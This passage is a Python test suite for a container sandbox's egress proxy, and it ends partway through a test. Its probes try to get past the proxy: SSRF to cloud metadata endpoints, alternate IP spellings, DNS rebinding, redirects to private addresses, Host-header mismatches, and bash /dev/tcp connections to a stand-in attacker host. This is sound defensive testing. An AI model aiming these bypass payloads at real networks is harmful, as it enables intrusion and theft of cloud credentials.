#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A box's way out, used as people use it and as an attacker would, in an internet of our own. TAP.

  egress.py [--bin DIR] [--only WORD] [--full]

Started from the outside it makes that internet (world.py) and runs itself inside. EG-nn in a claim is the probe of
that number. Every wrong dial would be answered by a server of ours and be written down, so "nothing was dialled" is
said of packets, not of programs.
"""
import argparse
import base64
import errno
import json
import os
import random
import re
import shutil
import signal
import socket
import ssl
import string
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor

import world
from tap import Skip, default_label, need, run, same, test, wait_for
from world import (EVIL, EXAMPLE, EXAMPLE6, HOST4, HOST_OPEN, HOST_PUBLIC4, HOST_PUBLIC6, HOST_SHUT, INTERNAL, METADATA, MIXED, NAMESERVER,
                   PRIVATE, V4, V6, WILD, descendants)

HERE = os.path.dirname(os.path.abspath(__file__))
IMAGE = "openclaw-sandbox:bookworm-slim"
PROXY = ["127.0.0.1", 3128]
PUBLIC = {EXAMPLE, EXAMPLE6, EVIL, V4, V6, WILD, MIXED, "93.184.216.35"}
NO_PROXY = {"PATH": "/usr/bin:/bin", "HOME": "/tmp"}  # a program that was started with nothing
ARGS = None
STRAY, STUBBORN = [], []  # packets that no test may cause, and relays that did not go when they were told to


class World:
    """A person with boxes, a data folder and a workspace of his own; what he does is seen from outside."""

    def __init__(self):
        self.bin = os.path.abspath(ARGS.bin)
        self.top = tempfile.mkdtemp(prefix="w-", dir=ARGS.inside)
        os.chmod(self.top, 0o755)
        self.ws, self.data = os.path.join(self.top, "ws"), os.path.join(self.top, "data")
        self.uid = os.getuid() or 1000
        for d in (self.ws, os.path.join(self.top, "home")):
            os.mkdir(d)
        shutil.copy(os.path.join(ARGS.inside, "ca.crt"), self.ws)
        shutil.copy(os.path.join(HERE, "world.py"), os.path.join(self.ws, "probe.py"))
        self.env = {"HOME": os.path.join(self.top, "home"), "PATH": "/usr/local/bin:/usr/bin:/bin", "LANG": "C.UTF-8",
                    "CLAWDEN_DATA_DIR": self.data, "CLAWDEN_RUNTIME_DIR": os.path.join(self.top, "run"), "CLAWDEN_NO_SPAWNER": "1",
                    "CLAWDEN_NAMESERVERS": NAMESERVER, "CLAWDEN_EGRESS_IDLE": "30"}
        self.log = os.path.join(ARGS.inside, "internet.log")
        self.mark = os.path.getsize(self.log)
        self.may_dial = set(PUBLIC)

    def close(self):
        boxes = os.path.join(self.data, "boxes")
        for name in os.listdir(boxes) if os.path.isdir(boxes) else []:
            self.docker("rm", "-f", name)
        for pid in relays():
            end_relay(pid)
        STRAY.extend(p for p in self.seen("packet", where="internet") if p["address"] not in self.may_dial and not is_question(p))
        shutil.rmtree(self.top, ignore_errors=True)

    # programs

    def call(self, program, *words, **kw):
        kw.setdefault("timeout", 60)
        if "input" not in kw:
            kw.setdefault("stdin", subprocess.DEVNULL)
        env = dict(self.env, **kw.pop("env", {}))
        return subprocess.run([os.path.join(self.bin, program), *words], env=env, cwd=self.ws, text=True, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, **kw)

    def exec(self, *words, **kw):
        return self.call("clawden-sandbox", "exec", *words, **kw)

    def docker(self, *words, **kw):
        return self.call("../libexec/clawden/bin/docker", *words, **kw)

    def start(self, box, *words, **kw):
        """A command in a live box that goes on."""
        return subprocess.Popen([os.path.join(self.bin, "../libexec/clawden/bin/docker"), "exec", "-i", box, *words], env=self.env,
                                cwd=self.ws, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
                                **kw)

    def network(self, box, *words, code=0):
        r = self.call("clawden", "sandbox", "network", box, *words)
        same(r.returncode, code, f"clawden sandbox network {box} {' '.join(words)}: {r.stdout} {r.stderr}")
        return r

    def shown(self, box):
        return json.loads(self.network(box, "--json").stdout)

    def box(self, name="box", network="allowlist", allow=(), flags=()):
        r = self.docker("create", "--name", name, "--network", network, "--user", f"{self.uid}:{self.uid}", "--workdir", "/workspace",
                        "-v", f"{self.ws}:/workspace", *flags, IMAGE, "sleep", "infinity")
        same(r.returncode, 0, f"create: {r.stderr}")
        r = self.docker("start", name)
        same(r.returncode, 0, f"start: {r.stderr}")
        if allow:
            self.network(name, *[w for rule in allow for w in ("--allow", rule)])
        return name

    def probe(self, probes, *flags, box=None, parallel=16):
        """What each probe came to, in a fresh box with these flags or in a live one."""
        words = ["/usr/bin/python3", "probe.py", "probe"]
        text = json.dumps({"parallel": parallel, "probes": probes})
        r = self.docker("exec", "-i", box, *words, input=text) if box else self.exec(*flags, "--", *words, input=text)
        need(r.returncode == 0 and r.stdout.startswith("["), f"the prober ended with {r.returncode}: {r.stdout[-300:]} {r.stderr[-1200:]}")
        return json.loads(r.stdout)

    # what was seen

    def seen(self, kind=None, **about):
        with open(self.log) as f:
            f.seek(self.mark)
            events = [json.loads(line) for line in f]
        return [e for e in events if (kind is None or e["kind"] == kind) and all(e.get(k) == v for k, v in about.items())]

    def asked(self):
        return sorted({e["name"] for e in self.seen("dns")})

    def dialled(self):
        """Addresses and ports to which a first packet went, the questions to our name server apart."""
        time.sleep(0.15)  # packets are read by a program
        return sorted({(p["address"], p["port"]) for p in self.seen("packet") if not is_question(p)})

    def audit(self):
        try:
            with open(os.path.join(self.data, "logs/audit.jsonl")) as f:
                return [json.loads(line) for line in f if line.endswith("\n")]
        except FileNotFoundError:
            return []

    def told(self, event, target=None, **about):
        """The line of the audit that says so; it comes a moment later."""
        found = []

        def look():
            found[:] = [a for a in self.audit() if a.get("event") == event and (target is None or a.get("target") == target) and
                        all(a.get(k) == v for k, v in about.items())]
            return found
        if not wait_for(look, 3):
            keys = ("event", "via", "target", "reason")
            lines = [" ".join(str(a.get(k)) for k in keys) for a in self.audit() if "egress" in str(a.get("event"))]
            raise AssertionError(f"the audit has no {event} {target} {about}, but {lines[-12:]}")
        return found[-1]


def is_question(packet):
    """To our name server; or the kernel's word to it that nobody waits for its answer any more."""
    return packet["address"] == NAMESERVER and (packet["port"] == 53 or packet["proto"] == "icmp")


def relays():
    return [pid for pid, name in descendants(os.getppid()).items() if name == "clawden-egress"]


def is_there(pid):
    return pid in descendants(os.getppid())


def end_relay(pid):
    for s in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, s)
        except OSError:
            pass
        if wait_for(lambda: not is_there(pid), 3):
            return
        STUBBORN.append(pid)


def relay_of(w):
    need(wait_for(relays, 3), "there is no relay")
    pid, = relays()
    return pid


def files_of(pid):
    """How many descriptors it has. Its folder is closed to an ordinary user, but tells its size (Linux 6.2)."""
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except PermissionError:
        n = os.stat(f"/proc/{pid}/fd").st_size
        if not n:
            raise Skip("this kernel does not tell how many files another has open")
        return n


def status_of(pid):
    with open(f"/proc/{pid}/status") as f:
        return dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)


# ---- what is said to the proxy ----

def talk(text, *then, to=PROXY, **more):
    return {"op": "talk", "to": to, "steps": [{"send": text}, *then], **more}


def connect(authority, **more):
    """Only the verdict: what comes behind the answer's head is not waited for."""
    return talk(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n", {"until": "\r\n\r\n"}, {"done": 1}, **more)


def get(url, host=None, extra="", **more):
    authority = host if host is not None else re.sub(r"^\w+://([^/]*).*", r"\1", url)
    return talk(f"GET {url} HTTP/1.1\r\nHost: {authority}\r\n{extra}\r\n", **more)


def through(authority, *steps, **more):
    """CONNECT, and when that is answered, more."""
    return talk(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n\r\n", {"until": "\r\n\r\n"}, *steps, **more)


def socks(host, port, **more):
    """By name, or by an address in four or sixteen bytes."""
    name = host if isinstance(host, bytes) else host.encode("latin1")
    where = b"\x03" + bytes([len(name)]) + name if not more.get("kind") else bytes([more.pop("kind")]) + name
    return {"op": "talk", "to": PROXY, "steps": [{"send": "\x05\x01\x00"}, {"until": "\x05\x00"}, {"send": (
        b"\x05\x01\x00" + where + struct.pack(">H", port)).decode("latin1")}, {"size": 4}, {"done": 1}], **more}


def curl(*words, env=None, **more):
    return {"op": "run", "argv": ["curl", "-sS", "-m", "8", "--cacert", "ca.crt", "-w", "\n%{http_code}", *words], "env": env, **more}


def bash(script):
    return {"op": "run", "argv": ["bash", "-c", script]}


def status(result):
    """The answer's status, or how it ended without one."""
    m = re.match(r"HTTP/1\.[01] (\d{3})", result["got"])
    return int(m.group(1)) if m else result["end"]


def is_refused(result):
    """By a status of the proxy, or by the end of the connection without a word."""
    s = status(result)
    return s in ("eof", "ECONNRESET", "EPIPE") if isinstance(s, str) else 400 <= s < 500 or s == 501


def all_refused(names, results, *statuses):
    wrong = [(n, status(r), r["got"][:80]) for n, r in zip(names, results) if status(r) not in statuses]
    need(not wrong, f"not refused with {statuses}: {wrong}")


def works(result, *words):
    need(status(result) == 200 and all(x in result["got"] for x in words), f"not answered with {words}: {result}")


# ---- the world itself, before anything is said of it ----

@test("the made internet answers for every address, and is all there is")
def _(w):
    w.may_dial |= {METADATA, PRIVATE, "8.8.8.8", "192.0.2.1"}
    for a in (METADATA, PRIVATE, "8.8.8.8", "192.0.2.1"):
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f"http://{a}/", timeout=5) as f:
            same(f.read().decode(), f"I am {a}, Host: {a}, SNI: None\n")
    same([x["server"] for x in w.seen("dns")], [])
    need((METADATA, 80) in w.dialled(), "a dial is not seen")
    with open("/proc/net/dev") as f:
        same(sorted(line.split(":")[0].strip() for line in f if ":" in line), ["host0", "lo"])


# ---- what the way out is for ----

@test("curl reaches an allowed host, by http and https, with the proxy's variables and without")
def _(w):
    results = w.probe([curl("http://example.test/"), curl("https://example.test/"), curl("http://example.test/", env=NO_PROXY),
                       curl("https://example.test/", env=NO_PROXY), curl("http://evil.test/")], "--allow-network=example.test")
    for r, sni in zip(results, ("None", "example.test", "None", "example.test")):
        same(r["out"], f"I am {EXAMPLE}, Host: example.test, SNI: {sni}\n\n200", r)
    need(results[4]["out"].startswith("ClawDen denied evil.test:80: ") and results[4]["out"].endswith("403"), results[4])
    need("\nsetting: " in results[4]["out"], "the text names no setting")
    for via, port in (("http", 80), ("connect", 443), ("tls", 443)):
        line = w.told("egress.allow", f"example.test:{port}", via=via)
        same((line["address"], line["rule"]), (EXAMPLE, "example.test"))
        need(line["box"], line)
    need(w.told("egress.end", "example.test:443")["bytes_in"] > 500, "no bytes were counted")
    same(len([a for a in w.audit() if a["event"] == "egress.allow" and a["via"] == "http"]), 2)
    need(w.told("egress.deny", "evil.test:80")["reason"], "a denial without a reason")


@test("the variables of a proxy are set in both spellings, and leave the box's own loopback alone")
def _(w):
    r = w.exec("--allow-network=example.test", "--", "env")
    have = dict(line.split("=", 1) for line in r.stdout.splitlines() if "=" in line)
    for name in ("http_proxy", "https_proxy", "all_proxy", "no_proxy"):
        need(have.get(name) and have.get(name) == have.get(name.upper()), f"{name}: {have}")
        need("127.0.0.1:3128" in have[name] if name != "no_proxy" else "localhost" in have[name], f"{name}={have[name]}")
    need("proxy" not in w.exec("--", "env").stdout.lower(), "a box without a network has them too")


# What must not get through from a box that may reach example.test: (name, program, target in the audit)
ATTEMPTS = [
    ("--resolve to the metadata service, https",
     curl("--resolve", f"example.test:443:{METADATA}", "https://example.test/", env=NO_PROXY), METADATA + ":443"),
    ("--resolve to the metadata service, http",
     curl("--resolve", f"example.test:80:{METADATA}", "http://example.test/", env=NO_PROXY), METADATA + ":80"),
    ("an IP literal", curl(f"http://{EVIL}/"), EVIL + ":80"),
    ("an IP literal without a proxy", curl(f"https://{EVIL}/", env=NO_PROXY), EVIL + ":443"),
    ("the allowed host's own address", curl(f"http://{EXAMPLE}/"), EXAMPLE + ":80"),
    ("a decimal address", curl("http://2852039166/"), METADATA + ":80"),
    ("a hexadecimal address", curl("http://0xA9FEA9FE/", env=NO_PROXY), METADATA + ":80"),
    ("a name of the metadata service", curl("http://meta.test/"), "meta.test:80"),
    ("a redirect to a private address", curl("-L", f"http://example.test/redirect?to=http://{PRIVATE}/"), PRIVATE + ":80"),
    ("a redirect to another name", curl("-L", "http://example.test/redirect?to=https://evil.test/", env=None), "evil.test:443"),
    ("another port", curl("http://example.test:8080/"), "example.test:8080"),
    ("another port without a proxy", curl("http://example.test:8080/", env=NO_PROXY), "example.test:8080"),
    ("/dev/tcp by address", bash(f"exec 3<>/dev/tcp/{EVIL}/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3"), EVIL + ":80"),
    ("/dev/tcp to another port", bash("exec 3<>/dev/tcp/example.test/7000; echo x >&3; cat <&3"), "example.test:7000"),
]


@test("from a box that may reach example.test no other way leads out, and each attempt is in the audit")
def _(w):
    control = bash("exec 3<>/dev/tcp/example.test/80; printf 'GET / HTTP/1.1\\r\\nHost: example.test\\r\\n\\r\\n' >&3; cat <&3")
    results = w.probe([p for _, p, _ in ATTEMPTS] + [curl("http://example.test/"), control], "--allow-network=example.test", parallel=4)
    for (name, _, _), r in zip(ATTEMPTS, results):
        need("I am" not in r.get("out", "") and "200" != r["out"][-3:], f"{name}: {r}")
    for r in results[-2:]:
        need(f"I am {EXAMPLE}" in r["out"], f"the control: {r}")
    for name, _, target in ATTEMPTS:
        line = w.told("egress.deny", target)
        need(line.get("rule") or line.get("reason"), f"{name}: {line}")
    same(w.dialled(), [(EXAMPLE, 80)])
    same(w.asked(), ["example.test"])


@test("curl --resolve by the proxy ends at the address that the name really has")
def _(w):
    r, = w.probe([curl("--resolve", f"example.test:80:{METADATA}", "http://example.test/")], "--allow-network=example.test")
    need(f"I am {EXAMPLE}," in r["out"], r)
    same(w.dialled(), [(EXAMPLE, 80)])


@test("a name that changes its address is dialled only where it was allowed (EG-08)")
def _(w):
    n = int(os.environ.get("EGRESS_REBIND", 10000 if ARGS.full else 300))
    done = {200: 0, 403: 0}
    for i in range(0, n, 150):
        # the relay keeps an answer for a second: a fresh name for most, and the same one again for the others
        names = [f"{(i + k) // 2}.rebind.test" if k < 140 else "rebind.test" for k in range(150)]
        for r in w.probe([get(f"http://{x}/") if k % 2 else connect(f"{x}:80") for k, x in enumerate(names)],
                         "--allow-network=rebind.test,*.rebind.test", parallel=8):
            need(status(r) in done, r)
            done[status(r)] += 1
            need("I am" not in r["got"] or f"I am {EXAMPLE}," in r["got"], r)
    need(done[200] > n / 10 and done[403] > n / 10, f"the name did not change enough: {done}")
    same({a for a, _ in w.dialled()}, {EXAMPLE})
    need(all(a.get("reason") for a in w.audit() if a["event"] == "egress.deny"), "a denial without a reason")


@test("ping and every other kind of packet have no socket or no way (EG-01)")
def _(w):
    four, six, raw, datagram, stream = socket.AF_INET, socket.AF_INET6, socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_STREAM
    kinds = [(four, raw, 1), (four, datagram, 1), (six, raw, 58), (six, datagram, 58), (four, stream, 132), (four, raw, 255)]
    raw = [{"op": "socket", "family": f, "type": t, "proto": p, "to": [EXAMPLE6 if f == six else EXAMPLE, 0]} for f, t, p in kinds]
    results = w.probe(raw + [{"op": "links"}, get("http://example.test/")], "--allow-network")
    for p, r in zip(raw, results):
        need(r["end"] in ("EPERM", "EACCES", "EPROTONOSUPPORT", "ESOCKTNOSUPPORT", "EAFNOSUPPORT"), f"{p}: {r}")
    same(results[-2]["found"], ["lo"])
    works(results[-1])
    if os.path.exists("/usr/bin/ping"):
        r, = w.probe([{"op": "run", "argv": ["ping", "-c", "1", "-W", "1", EXAMPLE]}], "--allow-network")
        need(r["code"] != 0 and "1 received" not in r["out"], r)
    need(not [p for p in w.seen("packet") if p["proto"] not in ("tcp", "udp")], "a packet went out")


@test("a box without a network has its loopback and no route (EG-01)")
def _(w):
    where = [("192.0.2.1", 80), ("2001:db8::1", 80), ("10.0.0.1", 80), ("172.17.0.1", 80), (HOST4, 80), (EXAMPLE, 443), (NAMESERVER, 53)]
    probes = [{"op": "talk", "to": list(a), "steps": [{"send": "x"}]} for a in where] + [{"op": "udp", "to": list(a)} for a in where]
    results = w.probe(probes + [{"op": "links"}, connect("example.test:443"), {"op": "resolve", "name": "example.test"}])
    for p, r in zip(probes, results):
        need(r["end"] in ("ENETUNREACH", "EADDRNOTAVAIL", "EACCES"), f"{p['to']}: {r['end']}")
    same(results[-3]["found"], ["lo"])
    same((results[-2]["end"], results[-1]["found"]), ("ECONNREFUSED", []))
    same((w.dialled(), relays()), ([], []))


# ---- names ----

def labels(n, below):
    return ["".join(random.choices(string.ascii_lowercase + string.digits, k=50)) + "." + below for _ in range(n)]


@test("questions for names that may not be reached are refused, ask nobody and are in the audit")
def _(w):
    names = labels(8, "evil.test")
    servers = ["127.0.0.1", "8.8.8.8", NAMESERVER, "10.9.0.2"]
    ways = [{"server": s, "proto": t} for s in servers for t in ("udp", "tcp")]
    probes = [{"op": "dns", "name": n, **way} for n, way in zip(names, ways)]
    probes += [{"op": "dns", "name": names[0], "type": t} for t in (16, 5, 255, 65)]
    control = [{"op": "dns", "name": "example.test", **way} for way in ways]
    results = w.probe(probes + control, "--allow-network=example.test")
    for p, r in zip(probes, results):
        same((r.get("rcode"), r.get("found")), (5, []), f"{p}: {r}")
    need("evil.test" in results[0]["text"] or results[0]["text"], f"REFUSED without a word: {results[0]}")
    for p, r in zip(control, results[len(probes):]):
        need(r.get("rcode") == 0 and r["found"] and all(a.startswith(("198.18.", "198.19.")) for a in r["found"]), f"{p}: {r}")
    for n in names:
        w.told("egress.deny", n, via="dns")
    same((w.asked(), w.dialled()), ([], []))


@test("a question is answered at every server's address, of both families, by an address that stands for the name")
def _(w):
    servers = ["127.0.0.1", "127.0.0.53", "1.1.1.1", "::1", "2001:4860:4860::8888"]
    results = w.probe([{"op": "dns", "name": "example.test", "type": t, "server": s} for s in servers for t in (1, 28)] +
                      [{"op": "resolve", "name": "example.test"}, {"op": "resolve", "name": "evil.test"}], "--allow-network=example.test")
    want = results[0]["found"], results[1]["found"]
    need(len(want[0]) == 1 and len(want[1]) == 1 and ":" in want[1][0], want)
    for i, s in enumerate(servers):
        if ":" not in s or world.has_ipv6():
            same((results[2 * i].get("found"), results[2 * i + 1].get("found")), want, s)
    same(set(results[-2]["found"]) <= {*want[0], *want[1]} and bool(results[-2]["found"]), True, results[-2])
    same(results[-1]["found"], [])
    same(w.asked(), [])


@test("a flood of names under a wildcard meets a cap, and tells the outside nothing (EG-27)")
def _(w):
    begun = time.monotonic()
    results = w.probe([{"op": "dns", "name": n} for n in labels(1000, "wild.test")], "--allow-network=*.wild.test", parallel=8)
    took = time.monotonic() - begun
    good = sum(1 for r in results if r.get("rcode") == 0 and r["found"])
    need(200 <= good <= 256 + 128 * took + 16, f"{good} of 1000 were answered in {took:.1f} s")
    if took < 5:
        need(good < 1000, "no cap was met")
        need([r for r in results if r.get("rcode") == 2], "the others did not get SERVFAIL")
        line = w.told("egress.deny", via="dns")
        need("too many" in line["reason"], line)
        need(len([a for a in w.audit() if "too many" in str(a.get("reason"))]) <= took + 3, "the audit is flooded")
    same((w.asked(), w.dialled()), ([], []))


@test("names are read in one way: only the same name in canonical letters passes (EG-11)")
def _(w):
    good = ["example.test:443", "EXAMPLE.Test:443", "example.test.:443"]
    bad = ["example.test:443:443", ".example.test:443", "example..test:443", "x" * 64 + ".example.test:443",
           ("a" * 49 + ".") * 5 + "example.test:443",
           "example.test..:443", "_.example.test:443", "*:443", "*.test:443", "%65xample.test:443", "example%2etest:443",
           "\u0435xample.test".encode().decode("latin1") + ":443", "xn--xample-2of.test:443", "xn--:443", "example.test :443",
           " example.test:443", "example.test\t:443", "exa mple.test:443", "example.test@evil.test:443", "evil.test#example.test:443",
           "evil.test/example.test:443", "evil.test?example.test:443", "evil.test\\example.test:443", "[example.test]:443",
           "example.test;443", "\uff45xample.test".encode().decode("latin1") + ":443", "-example.test:443", "example-.test:443",
           "localhost:443", "example:443", ":443",
           "example.test,evil.test:443"]
    results = w.probe([connect(a) for a in good + bad] + [get("http://EXAMPLE.Test./head")], "--allow-network=example.test")
    for a, r in zip(good, results):
        same(status(r), 200, a)
    all_refused(bad, results[len(good):-1], 400, 403)
    works(results[-1], "\r\nHost: example.test\r\n")
    same(w.asked(), ["example.test"])
    need({a for a, _ in w.dialled()} <= {EXAMPLE}, w.dialled())


@test("control bytes and other alphabets in a name are refused before any rule (EG-12)")
def _(w):
    names = ["evil.test\0.example.test", "example.test\0", "example.test\0.evil.test", "example.test\r", "exa\nmple.test",
             "example.test\x7f", "ex\xc3\xa4mple.test", "\x01"]
    probes = [connect(n + ":443") for n in names] + [get(f"http://{n}/") for n in names]
    probes += [get("http://example.test/", host=n) for n in names]
    results = w.probe(probes + [socks(n, 443) for n in names] + [socks("example.test", 443)], "--allow-network=example.test")
    all_refused([p["steps"][0]["send"] for p in probes], results[:len(probes)], 400)
    for n, r in zip(names, results[len(probes):]):
        need(r["got"][2:4] != "\x05\0", f"SOCKS {n!r}: {r}")
    same(results[-1]["got"][2:4], "\x05\0", "the control by SOCKS")
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())
    targets = [a.get("target", "") for a in w.audit() if a["event"] == "egress.deny"]
    need(len(targets) >= 3 * len(names), f"{len(targets)} denials in the audit")
    need(all(re.fullmatch(r"[\x21-\x7e]*", t) for t in targets), targets)


@test("a suffix means names below it, at any depth, and nothing that only looks so (EG-13)")
def _(w):
    def verdicts(rule, *names):
        return [status(r) for r in w.probe([connect(n + ":443") for n in names], f"--allow-network={rule}")]
    same(verdicts("*.example.test", "www.example.test", "a.b.example.test", "example.test", "notexample.test", "example.test.evil.test",
                  "example-test", "wwwexample.test"), [200, 200, 403, 403, 403, 403, 403])
    same(verdicts("example.test", "example.test", "www.example.test", "notexample.test", "example.test.evil.test", "example-test",
                  "xexample.test"), [200, 403, 403, 403, 403, 403])
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())


@test("only ports that a rule names pass, in one spelling (EG-15)")
def _(w):
    denied = [f"example.test:{p}" for p in (22, 25, 53, 2375, 6379, 8080, 8443, 65535, 1)]
    wrong = ["0", "65536", "+443", "0443", " 443", "443x", "", "-1", "4294967739", "0x1bb", "443 "]
    wrong = [f"example.test:{p}" for p in wrong] + ["example.test"]
    results = w.probe([connect(a) for a in denied + wrong] + [connect("example.test:443"), connect("example.test:80")],
                      "--allow-network=example.test")
    all_refused(denied, results, 403)
    all_refused(wrong, results[len(denied):], 400)
    same([status(r) for r in results[-2:]], [200, 200])
    same(w.dialled(), [(EXAMPLE, 80), (EXAMPLE, 443)])
    results = w.probe([connect("example.test:7000"), connect("example.test:443"), connect("example.test:7001")],
                      "--allow-network=example.test:7000")
    same([status(r) for r in results], [200, 403, 403])
    results = w.probe([connect("example.test:7000"), connect("example.test:443"), connect("other.test:443")],
                      "--allow-network=example.test:*")
    same([status(r) for r in results], [200, 200, 403])


# ---- addresses ----

@test("the metadata services are not dialled, nor asked for (EG-03)")
def _(w):
    where = [METADATA, "[fd00:ec2::254]", "100.100.100.200", "168.63.129.16", "metadata.google.internal"]
    probes = [x for a in where for x in (connect(a + ":80"), get(f"http://{a}/latest/meta-data/"))]
    for flag in ("--allow-network=example.test", "--allow-network"):
        results = w.probe(probes + [socks(bytes([169, 254, 169, 254]), 80, kind=1), get("http://example.test/")], flag)
        all_refused([p["steps"][0]["send"][:50] for p in probes], results[:len(probes)], 403)
        same(results[-2]["got"][2:4], "\x05\x02", "SOCKS to the metadata service")
        works(results[-1])
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())
    need(not [n for n in w.asked() if n not in ("example.test", "metadata.google.internal")], w.asked())
    for a in where:
        w.told("egress.deny", a + ":80")


@test("no other spelling of an IPv4 address is taken for a name or an address (EG-04)")
def _(w):
    forms = ["2130706433", "0x7f000001", "0x7f.1", "017700000001", "127.1", "127.0.1", "0", "0177.0.0.1", "127.000.000.001", "127.0.0.1.",
             "127.0.0.1", "\uff11\uff12\uff17.0.0.1".encode().decode("latin1"), "2852039166", "0xA9FEA9FE", "169.254.43518",
             "0251.0376.0251.0376", "127.0.0.1%00", "0.0.0.0", "10.1", "255.255.255.255", "224.0.0.1", "240.0.0.1", "100.64.0.1",
             "192.168.0.1", "172.16.0.1", "198.18.0.1", "192.0.2.1", "1.2.3.4.5", "256.1.1.1", "1.2.3",
             "0x5db8d822"]
    probes = [connect(f + ":80") for f in forms] + [get(f"http://{f}/") for f in forms]
    results = w.probe(probes + [connect(EVIL + ":80")], "--allow-network")
    all_refused([p["steps"][0]["send"][:40] for p in probes], results[:-1], 400, 403)
    same(status(results[-1]), 200, "a public address in its one spelling")
    same((w.dialled(), w.asked()), ([(EVIL, 80)], []))
    same([status(r) for r in w.probe([connect(EVIL + ":80"), connect(EXAMPLE + ":80")], "--allow-network=example.test")], [403, 403],
         "literals that are not listed")


@test("no IPv6 address that is local, or carries a local IPv4 address, passes (EG-05)")
def _(w):
    forms = ["[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
             "[fe80::1%25lo]", "[fe80::1%lo]", "[fe80::1]", "[fc00::1]", "[fd09::1]", "[::1", "::1", "::1]", "[ff02::1]",
             "[::ffff:0:7f00:1]", "[2001:db8::1]", "[2001::1]", "[::ffff:169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[2002:a9fe:a9fe::]",
             "[0:0:0:0:0:0:0:1]", "[::0001]", "[0000:0000::1]", "[v1.x]", "[]", "[:::]", "[1:2:3:4:5:6:7:8:9]", "[12345::]",
             "[64:ff9b:1::7f00:1]", "[fec0::1]",
             "[fd00:ec2::254]"]
    probes = [connect(f + ":80") for f in forms] + [get(f"http://{f}/") for f in forms]
    v6 = [connect(f"[{V6}]:443")] if world.has_ipv6() else []
    results = w.probe(probes + v6, "--allow-network")
    all_refused([p["steps"][0]["send"][:40] for p in probes], results[:len(probes)], 400, 403)
    same([status(r) for r in results[len(probes):]], [200] * len(v6))
    same(w.dialled(), [(V6, 443)] * len(v6))


@test("of a name with public and local addresses only the public one is dialled (EG-07)")
def _(w):
    local = ["loop.test", "private.test", "meta.test", "unspecified.test", "mapped.test", "nat64.test", "sixto4.test", "lan.test"]
    results = w.probe([get("http://mixed.test/") for _ in range(5)] + [get(f"http://{n}/") for n in local], "--allow-network")
    for r in results[:5]:
        need(status(r) == 403 or f"I am {MIXED}," in r["got"], r)
    all_refused(local, results[5:], 403)
    need({a for a, _ in w.dialled()} <= {MIXED}, w.dialled())
    for n in local:
        need(w.told("egress.deny", n + ":80")["reason"], n)


@test("a name that is listed is not dialled at a local address unless that is listed too")
def _(w):
    same([status(r) for r in w.probe([get("http://internal.test/")], "--allow-network=internal.test")], [403])
    same([status(r) for r in w.probe([get("http://internal.test/"), get(f"http://{INTERNAL}/")], "--allow-network=172.18.0.0/16")],
         [403, 200], "the range alone")
    w.may_dial.add(INTERNAL)
    results = w.probe([get("http://internal.test/"), get("http://private.test/"), get("http://172.19.0.1/")],
                      "--allow-network=internal.test,private.test,172.18.0.0/16")
    works(results[0], f"I am {INTERNAL}, Host: internal.test")
    same([status(r) for r in results[1:]], [403, 403])
    for bad in ("127.0.0.0/8", "127.0.0.1", "0.0.0.0/0:22", "[::1]"):
        r = w.exec(f"--allow-network=example.test,{bad}", "--", "curl", "-s", "-m", "3", "http://127.0.0.1:22/")
        need("I am" not in r.stdout, f"{bad}: {r.stdout}")
    need(not [d for d in w.seen("packet", where="host")], "the host's loopback was dialled")


@test("chains of names have an end, and lead to nothing that is local (EG-09)")
def _(w):
    begun = time.monotonic()
    names = ("c0.chain.test", "a.loop.test", "private.chain.test", "short.chain.test", "nx.test", "empty.test", "c18.chain.test")
    results = w.probe([get(f"http://{n}/", timeout=20) for n in names], "--allow-network")
    took = time.monotonic() - begun
    need(status(results[0]) in (200, 502, 403), results[0])
    need(status(results[1]) in (502, 504), results[1])
    same([status(r) for r in results[2:]], [403, 200, 502, 502, 200])
    need(took < 15, f"a loop took {took:.1f} s")
    need({a for a, _ in w.dialled()} == {EXAMPLE}, w.dialled())
    need(len(w.seen("dns", name="a.loop.test")) < 20, "the loop was asked for again and again")


# ---- what is said inside ----

@test("a request whose Host is not the host it goes to is refused, and upstream sees the one that was allowed (EG-16)")
def _(w):
    bad = [get("http://example.test/", host="evil.test"), get("http://example.test/", extra="Host: evil.test\r\n"),
           get("http://example.test/", extra="Host: example.test\r\n"), talk("GET http://example.test/ HTTP/1.1\r\n\r\n"),
           get("http://example.test/", host="example.test:8080"), get("http://example.test/", host="example.test, evil.test"),
           talk("GET /x HTTP/1.1\r\nHost: example.test\r\n\r\n"), talk("GET https://example.test/ HTTP/1.1\r\nHost: example.test\r\n\r\n"),
           talk("GET http://user@example.test/ HTTP/1.1\r\nHost: example.test\r\n\r\n"),
           talk("GET http://example.test/ HTTP/1.1\r\nHost : example.test\r\n\r\n")]
    direct = ["example.test", 80]
    caught = [talk("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n", to=direct), talk("GET / HTTP/1.1\r\n\r\n", to=direct),
              talk("GET http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", to=direct),
              through("example.test:80", {"send": "GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n"})]
    good = [get("http://example.test/head"), talk("GET http://example.test/head HTTP/1.0\r\n\r\n"),
            talk("GET /head HTTP/1.1\r\nHost: EXAMPLE.test\r\nConnection: close\r\n\r\n", to=direct)]
    results = w.probe(bad + caught + good, "--allow-network=example.test")
    all_refused([p["steps"][0]["send"] for p in bad], results, 400, 421, 403)
    for p, r in zip(caught, results[len(bad):]):
        need("I am" not in r["got"] and "canary" not in r["got"], f"{p}: {r}")
    for r in results[-3:]:
